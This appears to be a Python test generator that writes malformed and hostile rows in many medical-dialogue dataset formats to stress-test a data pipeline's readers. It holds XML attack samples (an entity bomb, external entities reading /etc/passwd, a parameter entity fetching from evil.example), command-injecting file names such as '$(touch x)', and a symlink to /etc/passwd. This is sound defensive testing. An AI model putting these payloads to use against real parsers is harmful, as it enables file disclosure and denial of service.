"""A seeded generator of malformed and malicious rows, in every shape that a reader reads.

`SHAPES` is the table: how one question with its answer is written as a row of the shape, and how rows make
files. Each shape's main files hold hostile rows with good ones among them; beside them lie damaged files.
`write_all(folder, hostile=False)` writes the same good rows in the same places, with harmless ones around.

    python -m tests.hostile.generate FOLDER     writes everything and a pipeline file
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from tests.hostile.payloads import BAITS, IDS, TEXTS, VALUES

SEED = 20261122
GOOD_EVERY = 25


@dataclass(frozen=True)
class QA:
    """What a row is made of. `note` goes into whatever the shape has besides: department, title, section."""

    id: Any
    question: str
    answer: str
    note: str = "General"


@dataclass(frozen=True)
class Shape:
    """`row` writes one exchange in the shape; `files` makes files, by name, of rows that it wrote.

    `json` rows are values in which any part may be of a wrong type. `per_row` shapes have a file for
    every row. `ids`: the source's own ids are read.
    """

    reader: str
    lang: str
    row: Callable[[QA], Any]
    files: Callable[[list[Any]], dict[str, bytes]]
    name: str = ""
    json: bool = False
    ids: bool = True
    per_row: bool = False
    whole: bool = False  # one broken row takes the rest of its file with it
    columns: dict[str, str] = field(default_factory=dict)

    @property
    def folder(self) -> str:
        return f"{self.reader}-{self.name}" if self.name else self.reader


@dataclass
class Written:
    """What was written for a shape: rows in the main files (None where not well defined), good rows' texts."""

    shape: Shape
    rows: int = 0
    hostile: int = 0
    good: list[str] = field(default_factory=list)
    damaged: list[str] = field(default_factory=list)


# ---- packing rows into files ------------------------------------------------------------------------


def dump(value: Any) -> str:
    return json.dumps(value, ensure_ascii=True)


def lines(name: str) -> Callable[[list[Any]], dict[str, bytes]]:
    return lambda rows: {name: "".join(dump(row) + "\n" for row in rows).encode()}


def array(name: str) -> Callable[[list[Any]], dict[str, bytes]]:
    return lambda rows: {name: ("[" + ",\n".join(map(dump, rows)) + "]").encode()}


def members(rows: list[Any]) -> dict[str, bytes]:
    pairs = (f"{dump(str(key))}: {dump(value)}" for key, value in rows)
    return {"members.json": ("{" + ",\n".join(pairs) + "}").encode()}


def encoded(text: str, encoding: str = "utf-8") -> bytes:
    """Encode; half surrogate pairs become bytes that are not valid UTF-8 (elsewhere question marks)."""
    return text.encode(encoding, "surrogatepass" if encoding == "utf-8" else "replace")


def table(name: str, header: list[str], encoding: str = "utf-8") -> Callable[[list[Any]], dict[str, bytes]]:
    def pack(rows: list[Any]) -> dict[str, bytes]:
        stream = io.StringIO(newline="")
        csv.writer(stream, quoting=csv.QUOTE_ALL).writerows([header, *rows])
        return {name: encoded(stream.getvalue(), encoding)}

    return pack


def blocks(rows: list[Any]) -> dict[str, bytes]:
    return {"blocks.txt": encoded("".join(f"{a}\n{b}\n\n\n" for a, b in rows), "gb18030")}


def parquet(rows: list[Any]) -> dict[str, bytes]:
    import polars as pl

    stream = io.BytesIO()
    safe = [{k: str(v).encode("utf-8", "replace").decode() for k, v in row.items()} for row in rows]
    pl.DataFrame(safe).write_parquet(stream)
    return {"rows.parquet": stream.getvalue()}


def documents(rows: list[Any]) -> dict[str, bytes]:
    return {f"{n:05d}.xml": encoded(row) for n, row in enumerate(rows)}


def grids(rows: list[Any]) -> dict[str, bytes]:
    return {
        f"day{n:05d}_{role}.TextGrid": encoded(text)
        for n, row in enumerate(rows)
        for role, text in zip(("doctor", "patient"), row, strict=True)
    }


def dialog_lines(rows: list[Any]) -> dict[str, bytes]:
    text = "".join(
        f"dialog {n}\n" + "".join(dump(turn) + "\n" for turn in row) + "\n" for n, row in enumerate(rows)
    )
    return {"text.txt": text.encode()}


def one_object(rows: list[Any]) -> dict[str, bytes]:
    return {"encounters.json": dump({"data": rows}).encode()}


# ---- the shapes -------------------------------------------------------------------------------------


def talk(
    qa: QA, who: str = "from", what: str = "value", roles: tuple[str, str] = ("human", "gpt")
) -> list[dict]:
    return [{who: roles[0], what: qa.question}, {who: roles[1], what: qa.answer}]


def one_line(text: str) -> str:
    return text.replace("\n", " ").replace("\r", " ")


def xml(qa: QA) -> str:
    return (
        f"<Document id={quoteattr(str(qa.id))} source={quoteattr(qa.note)}><Focus>{escape(qa.note)}</Focus><QAPairs>"
        f'<QAPair pid="1"><Question qid={quoteattr(str(qa.id))} qtype="x">{escape(qa.question)}</Question>'
        f"<Answer>{escape(qa.answer)}</Answer></QAPair></QAPairs></Document>"
    )


def grid(text: str, start: int) -> str:
    quoted = text.replace('"', '""')
    return (
        'File type = "ooTextFile"\nObject class = "TextGrid"\n\nxmin = 0\nxmax = 9\ntiers? <exists>\nsize = 1\n'
        'item []:\n    item [1]:\n        class = "IntervalTier"\n        name = "Speaker"\n        xmin = 0\n'
        "        xmax = 9\n        intervals: size = 1\n        intervals [1]:\n"
        f'            xmin = {start}\n            xmax = {start + 1}\n            text = "{quoted}"\n'
    )


def sharegpt(qa: QA) -> dict:
    return {"id": qa.id, "conversations": talk(qa), "cate1": qa.note}


PAIR = ["id", "question", "answer", "department"]
SHAPES: tuple[Shape, ...] = (
    Shape(
        "generic",
        "en",
        lambda q: {"id": q.id, "question": q.question, "answer": q.answer, "department": q.note, "age": 40},
        lines("rows.jsonl"),
        name="lines",
        json=True,
    ),
    Shape(
        "generic",
        "en",
        lambda q: {
            "id": q.id,
            "turns": [["patient", q.question], ["doctor", q.answer]],
            "group": f"{q.note}-{q.id}",
        },
        array("turns.json"),
        name="turns",
        json=True,
        whole=True,
    ),
    Shape(
        "generic", "en", lambda q: [q.id, q.question, q.answer, q.note], table("rows.csv", PAIR), name="csv"
    ),
    Shape(
        "generic",
        "en",
        lambda q: {"id": q.id, "question": q.question, "answer": q.answer, "department": q.note},
        parquet,
        name="parquet",
        whole=True,
    ),
    Shape("sharegpt", "en", sharegpt, array("talks.json"), name="array", json=True, whole=True),
    Shape(
        "sharegpt",
        "zh",
        lambda q: {
            "id": q.id,
            "messages": talk(q, "role", "content", ("user", "assistant")),
            "department": q.note,
        },
        lines("talks.jsonl"),
        name="lines",
        json=True,
    ),
    Shape(
        "cmtmedqa",
        "zh",
        lambda q: {
            "id": q.id,
            "cate1": q.note,
            "cate2": q.note,
            "history": [[q.question, q.answer]],
            "instruction": "好的，我明天去，谢谢医生。",
            "input": "",
            "output": "不客气，祝您早日康复。",
        },
        array("talks.json"),
        json=True,
        whole=True,
    ),
    Shape(
        "cmtmedqa",
        "zh",
        lambda q: {"instruct": q.question, "output": q.answer},
        lines("safe.jsonl"),
        name="safety",
        json=True,
        ids=False,
    ),
    Shape(
        "toyhom",
        "zh",
        lambda q: [q.note, "请问医生", q.question, q.answer],
        table("rows.csv", ["department", "title", "ask", "answer"], "gb18030"),
        name="csv",
        ids=False,
    ),
    Shape(
        "toyhom",
        "zh",
        # A blank line ends a block, so a row's text has no line breaks here.
        lambda q: (f"请问,{one_line(q.question)}", one_line(q.answer) or "无"),
        blocks,
        name="text",
        ids=False,
    ),
    Shape("medquad", "en", xml, documents, per_row=True),
    Shape(
        "mts_dialog",
        "en",
        lambda q: [q.id, q.note, "Note.", f"Doctor: Hello.\nPatient: {q.question}\nDoctor: {q.answer}"],
        table("rows.csv", ["ID", "section_header", "section_text", "dialogue"]),
    ),
    Shape(
        "aci_bench",
        "en",
        lambda q: [
            "virtassist",
            q.id,
            f"[doctor] hello .\n[patient] {q.question}\n[doctor] {q.answer}",
            q.note,
        ],
        table("rows.csv", ["dataset", "encounter_id", "dialogue", "note"]),
        name="csv",
    ),
    Shape(
        "aci_bench",
        "en",
        lambda q: {"src": f"[patient] {q.question}\n[doctor] {q.answer}", "tgt": q.note, "file": q.id},
        one_object,
        name="json",
        json=True,
        whole=True,
    ),
    Shape(
        "primock57",
        "en",
        lambda q: (grid(q.answer, 5), grid(q.question, 1)),
        grids,
        ids=False,
        per_row=True,
    ),
    Shape(
        "med_safety_bench",
        "en",
        lambda q: [q.id, q.question, q.answer],
        table("med_safety_demonstrations_category_1.csv", ["", "harmful_medical_request", "safe_response"]),
    ),
    Shape(
        "pubmedqa",
        "en",
        lambda q: (
            q.id,
            {"QUESTION": q.question, "LONG_ANSWER": q.answer, "CONTEXTS": [q.note], "final_decision": "yes"},
        ),
        members,
        whole=True,
    ),
    Shape(
        "cmb_exam",
        "zh",
        lambda q: {
            "id": q.id,
            "question": q.question,
            "option": {"A": q.answer, "B": "以上都不是"},
            "question_type": "单项选择题",
            "answer": "A",
            "exam_type": q.note,
        },
        array("CMB-train-merge.json"),
        json=True,
        whole=True,
    ),
    Shape(
        "cmb_clin",
        "zh",
        lambda q: {
            "id": q.id,
            "title": q.note,
            "description": q.question,
            "QA_pairs": [{"question": "应该怎么办？", "answer": q.answer}],
        },
        array("CMB-Clin.json"),
        json=True,
        whole=True,
    ),
    Shape(
        "ai_hospital",
        "zh",
        lambda q: {
            "patient_id": q.id,
            "doctor_engine_name": q.note,
            "dialog_history": [
                {"role": "Doctor", "content": "您好。"},
                {"role": "Patient", "content": f"<对医生讲>{q.question}"},
                {"role": "Doctor", "content": q.answer},
            ],
        },
        lines("dialog_history.jsonl"),
        name="talks",
        json=True,
    ),
    Shape(
        "ai_hospital",
        "zh",
        lambda q: {
            "id": q.id,
            "medical_record": {"一般资料": q.note, "现病史": q.question, "初步诊断": q.answer},
        },
        array("patients.json"),
        name="cases",
        json=True,
        whole=True,
    ),
    Shape(
        "disc_medllm",
        "zh",
        lambda q: {
            "_id": q.id,
            "source": q.note,
            "conversation": talk(q, "role", "content", ("user", "assistant")),
        },
        lines("DISC-Med-SFT.jsonl"),
        json=True,
    ),
    Shape(
        "speechmed",
        "zh",
        lambda q: {"idx": q.id, "conversations": talk(q), "gender": "女", "age": "成年", "syn_model": q.note},
        array("talks.json"),
        json=True,
        whole=True,
    ),
    Shape(
        "meddg",
        "zh",
        lambda q: [{"id": "Patients", "Sentence": q.question}, {"id": "Doctor", "Sentence": q.answer}],
        dialog_lines,
        json=True,
        ids=False,
    ),
    Shape(
        "huatuogpt2",
        "zh",
        lambda q: {"id": q.id, "conversations": [{"from": "human", "value": [q.question]}, *talk(q)[1:]]},
        array("HuatuoGPT2-SFT-GPT4-140K.json"),
        json=True,
        whole=True,
    ),
)

# ---- texts ------------------------------------------------------------------------------------------

_EN = {
    "place": "knee,back,head,stomach,throat,shoulder,chest,hip,wrist,neck,ankle,elbow,jaw,foot,thumb,ear",
    "feel": "dull,sharp,burning,throbbing,heavy,tight,cramping,stabbing,aching,sore",
    "when": "after lunch,at night,in the morning,when I climb stairs,when I sit,after a run,in the cold,while driving",
    "drug": "ibuprofen,paracetamol,naproxen,omeprazole,loratadine,aspirin,cetirizine,amoxicillin",
    "test": "an ultrasound,a blood count,an X-ray,a urine test,an ECG,a lung function test",
    "advice": "Keep it warm and rest it for some days,Drink two litres of water a day,Walk for half an hour a day,"
    "Put something cold on it in the evening,Leave out spicy food for a while,Sleep on the other side",
}
_ZH = {
    "place": "膝盖,后背,头,胃,喉咙,肩膀,胸口,髋部,手腕,脖子,脚踝,手肘,下巴,脚,拇指,耳朵",
    "feel": "隐隐地疼,刺痛,灼痛,跳着疼,发沉,发紧,绞痛,酸痛,胀痛,发麻",
    "when": "饭后,夜里,早上起来,爬楼梯,久坐以后,跑步以后,受凉,开车,喝咖啡以后,紧张",
    "drug": "布洛芬,对乙酰氨基酚,奥美拉唑,氯雷他定,阿司匹林,西替利嗪,阿莫西林",
    "test": "彩超,血常规,X光片,尿常规,心电图,肺功能",
    "advice": "注意保暖，休息几天,每天喝两升水,每天散步半小时,晚上冷敷一会儿,先别吃辣的,换一侧睡",
}


def consultation(rng: random.Random, lang: str, good: bool) -> tuple[str, str]:
    """Return a question and an answer that pass the whole pipeline. Good ones share no sentence with others."""
    words = _ZH if lang == "zh" else _EN
    w = {name: rng.choice(values.split(",")) for name, values in words.items()}
    n, days, other = rng.randint(20, 80), rng.randint(2, 29), rng.choice(words["place"].split(","))
    if lang == "zh" and good:
        return (
            f"我今年{n}岁，{w['place']}{w['feel']}已经{days}天了，{w['when']}更明显，有时候连着{other}也不舒服。"
            f"我吃过{w['drug']}，管用几个小时。需要做{w['test']}吗？",
            f"从您说的情况看，多半是劳损，不像大毛病。{w['advice']}。{w['drug']}可以再吃三天。"
            f"如果{days}天后还是{w['feel']}，请去医院做{w['test']}。要是发烧或者{other}也肿了，当天就去看急诊。",
        )
    if lang == "zh":
        return (
            f"{w['place']}{w['when']}就{w['feel']}，持续{days}天，怎么办？",
            f"建议去医院检查{w['test']}，{w['advice']}。如果加重，及时就医。",
        )
    if good:
        return (
            f"I am {n} years old and for {days} days my {w['place']} has had a {w['feel']} pain. It is worse "
            f"{w['when']} and sometimes my {other} hurts as well. {w['drug'].capitalize()} helped for a few hours. "
            f"Do I need {w['test']}?",
            f"From what you describe this is most likely a strain and nothing worse. {w['advice']}. You can take "
            f"{w['drug']} for three more days. If the {w['feel']} pain is still there after {days} days, have "
            f"{w['test']}. Go to an emergency department the same day if you get a fever or your {other} swells.",
        )
    return (
        f"Why does my {w['place']} feel {w['feel']} {w['when']} since day {days}?",
        f"You should get {w['test']} and {w['advice'].lower()}. See a doctor if it gets worse.",
    )


# ---- rows -------------------------------------------------------------------------------------------


def hostile_rows(shape: Shape, rng: random.Random) -> Iterator[Any]:
    """Yield the hostile rows of a shape, each sound as a row of its container."""
    number = 0

    def make(**changes: Any) -> Any:
        nonlocal number
        number += 1
        question, answer = consultation(rng, shape.lang, good=False)
        said = {"id": f"bad-{number}", "question": question, "answer": answer, **changes}
        return shape.row(QA(**said))

    # Within a consultation, alone as question or answer, and beside; which of these differs between shapes.
    for place, text in enumerate(TEXTS, start=SHAPES.index(shape)):
        question, answer = consultation(rng, shape.lang, good=False)
        yield make(
            **[
                {"question": f"{question} {text}", "answer": f"{text} {answer}"},
                {"question": text},
                {"answer": text},
                {"note": text},
            ][place % 4]
        )
    if shape.ids:
        for value in IDS:
            yield make(id=value)
    for bait in rng.sample(BAITS, 6):
        yield make(question=bait * (4000 // len(bait)))
    if shape.json:
        sound = make()
        for path in paths(sound):
            yield replaced(sound, path, rng.choice(VALUES))
            yield replaced(sound, path, ...)
    elif isinstance(make(), list):
        yield make()[:-1]
        yield [*make(), "more", "and more"]


def paths(value: Any, at: tuple = ()) -> list[tuple]:
    """Return the way to every part of a JSON value, the value itself left out."""
    if not isinstance(value, dict | list):
        return []
    parts = value.items() if isinstance(value, dict) else enumerate(value)
    return [way for key, part in parts for way in [(*at, key), *paths(part, (*at, key))]]


def replaced(value: Any, path: tuple, new: Any) -> Any:
    """Return a copy with one part replaced, or left out for `...`."""
    copy = json.loads(json.dumps(value))
    target = copy
    for key in path[:-1]:
        target = target[key]
    if new is ...:
        del target[path[-1]]
    else:
        target[path[-1]] = new
    return copy


def shape_rows(shape: Shape, hostile: bool) -> tuple[list[Any], list[str], int]:
    """Return a shape's rows, the questions of the good ones, and how many are hostile.

    Without `hostile` the good rows stand in the same places, among rows that say nothing.
    """
    rng, good_rng = random.Random(f"{SEED} {shape.folder}"), random.Random(f"{SEED} good {shape.folder}")
    rows: list[Any] = []
    good: list[str] = []
    count = 0
    for count, row in enumerate(hostile_rows(shape, rng), start=1):
        if (count - 1) % GOOD_EVERY == 0:
            question, answer = consultation(good_rng, shape.lang, good=True)
            rows.append(shape.row(QA(f"good-{len(good)}", question, answer)))
            good.append(question)
        rows.append(row if hostile else shape.row(QA(f"calm-{count}", "Hm.", "Hm.")))
    return rows, good, count


# ---- damaged files ----------------------------------------------------------------------------------


def damaged(shape: Shape) -> dict[str, bytes]:
    """Return files of the shape that are not whole: cut, badly encoded, packed, empty, not of the shape at all."""
    rng = random.Random(f"{SEED} damage {shape.folder}")
    rows = [shape.row(QA(f"near-{n}", *consultation(rng, shape.lang, good=True))) for n in range(4)]
    files: dict[str, bytes] = {}
    for name, whole in shape.files(rows[:1] if shape.per_row else rows).items():
        text = whole.decode("utf-8", "replace")
        kinds = {
            "cut": whole[: len(whole) * 2 // 3],
            "cut-early": whole[:7],
            "utf16": text.encode("utf-16"),
            "latin": whole[: len(whole) // 2] + b"\xff\xe9\xfe" + whole[len(whole) // 2 :],
            "bom": b"\xef\xbb\xbf" + whole,
            "nul": whole[:40] + b"\x00" * 50 + whole[40:],
            "zeros": b"\x00" * 5000,
            "noise": rng.randbytes(5000),
            "gzip-cut": gzip.compress(whole, mtime=0)[:-12],
            "gzip": gzip.compress(whole, mtime=0),
            "deep": b"[" * 100_000,
            "deep-objects": b'{"a":' * 100_000,
            "quotes": b'"' * 20_001,
            "cr": whole.replace(b"\n", b"\r"),
            "twice": whole + whole,
            "empty": b"",
            "blank": b" \n\r\n\t\n",
        }
        files |= {f"{kind}-{name}": content for kind, content in kinds.items()}
    if shape.reader == "medquad":
        files |= {f"{name}.xml": text.encode() for name, text in XML_ATTACKS.items()}
    return files


_LOL = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BODY = "<QAPairs><QAPair pid='1'><Question qid='1'>{}</Question><Answer>{}</Answer></QAPair></QAPairs>"
XML_ATTACKS = {
    "bomb": f'<!DOCTYPE D [<!ENTITY l0 "lol">{_LOL}]><Document>{_BODY.format("&l9;", "&l9;")}</Document>',
    "quadratic": f'<!DOCTYPE D [<!ENTITY a "{"a" * 50_000}">]><Document>{_BODY.format("&a;" * 5000, "x")}</Document>',
    "external": '<!DOCTYPE D [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<Document>{_BODY.format('&x;', '&x;')}</Document>",
    "external-dtd": f'<!DOCTYPE D SYSTEM "file:///etc/passwd"><Document>{_BODY.format("q", "a")}</Document>',
    "parameter": '<!DOCTYPE D [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
    f"<Document>{_BODY.format('q', 'a')}</Document>",
    "include": '<Document xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" '
    f'parse="text"/>{_BODY.format("q", "a")}</Document>',
    "deep": "<Document>" + "<a>" * 60_000 + "</a>" * 60_000 + "</Document>",
    "encoding": f'<?xml version="1.0" encoding="no-such"?><Document>{_BODY.format("q", "a")}</Document>',
    "utf7": f'<?xml version="1.0" encoding="utf-7"?><Document>{_BODY.format("+ADw-script+AD4-", "a")}</Document>',
    "unknown": f"<Document>{_BODY.format('&nosuch; &#0; &#xd800;', 'a')}</Document>",
    "wide": "<Document "
    + " ".join(f"a{n}='x'" for n in range(20_000))
    + f">{_BODY.format('q', 'a')}</Document>",
}

HUGE = "giants.jsonl"


def giants() -> bytes:
    """Return JSON lines: a field of 10 MB, a word of 3 MB, 100,000 turns, 50,000 keys, a line too long."""
    lines = [
        {"id": "field", "question": "My knee hurts, what should I do? " * 320_000, "answer": "Rest it."},
        {"id": "word", "question": "Why?", "answer": "a" * 3_000_000},
        {"id": "turns", "turns": [["patient", "My knee hurts."], ["doctor", "Rest it for a week."]] * 50_000},
        {"id": "silent", "turns": [["patient", ""], ["doctor", ""]] * 10_000},
        {"id": "keys", "question": "q", "answer": "a", **{f"k{n}": n for n in range(50_000)}},
        {"id": "over", "question": "q" * 17_000_000, "answer": "a"},
    ]
    return "".join(json.dumps(line) + "\n" for line in lines).encode()


FILE_NAMES = (
    "<script>alert(1)",
    "a\nb",
    "\x1b[31mred",
    "-rf",
    "$(touch x)",
    "😀 岁",
    "{0}%s",
    "x" * 240,
)
"""File names in a folder of JSON lines; one that is not UTF-8 is added."""


def write_all(folder: Path, hostile: bool = True) -> list[Written]:
    """Write every shape's files below `folder`, and `pipeline.yaml`; return what was written."""
    import yaml

    written = []
    sources = []
    for shape in SHAPES:
        target = folder / shape.folder
        target.mkdir(parents=True)
        rows, good, count = shape_rows(shape, hostile)
        files = shape.files(rows)
        broken = damaged(shape) if hostile else {}
        for name, content in {**files, **broken}.items():
            (target / name).write_bytes(content)
        written.append(Written(shape, len(rows), count, good, sorted(broken)))
        sources.append(
            {
                "path": str(target),
                "reader": shape.reader,
                "name": shape.folder,
                "lang": shape.lang,
                "licence": "Apache-2.0",
            }
        )
    if hostile:
        target = folder / "names"
        target.mkdir()
        (target / HUGE).write_bytes(giants())
        row = dump(
            {"id": "1", "question": "My knee hurts, what can I do?", "answer": "Rest it for a week or two."}
        )
        for name in (*FILE_NAMES, os.fsdecode(b"not-utf8-\xff")):
            (target / f"{name}.jsonl").write_text(row, encoding="utf-8")
        (target / "link.jsonl").symlink_to("/etc/passwd")
        (target / "loop").symlink_to(target)
        sources.append(
            {"path": str(target), "reader": "generic", "name": "names", "lang": "en", "licence": "Apache-2.0"}
        )
    config = {"name": "hostile", "seed": SEED, "sources": sources}
    (folder / "pipeline.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    return written


if __name__ == "__main__":
    made = write_all(Path(sys.argv[1]))
    hostile, good, broken = (
        sum(map(count, made))
        for count in (lambda w: w.hostile, lambda w: len(w.good), lambda w: len(w.damaged))
    )
    print(f"{len(made)} shapes: {hostile} hostile rows, {good} good ones among them, {broken} damaged files")
